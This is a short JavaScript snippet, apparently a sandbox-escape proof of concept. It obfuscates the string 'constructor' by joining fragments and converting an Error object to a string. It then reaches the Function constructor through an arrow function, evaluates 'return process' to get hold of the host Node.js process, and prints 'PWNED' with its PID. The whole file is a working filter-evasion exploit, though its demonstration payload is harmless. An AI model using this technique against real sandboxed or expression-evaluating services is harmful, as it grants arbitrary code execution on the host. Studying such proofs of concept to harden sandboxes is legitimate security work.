'use strict';
const w = ['con', 'structor'].join('');
const fn = (x) => x;
const part = { name: '', message: w };
const e = Object.assign(new Error(), part);
console.log('PWNED', fn[e + '']('return process')().pid);
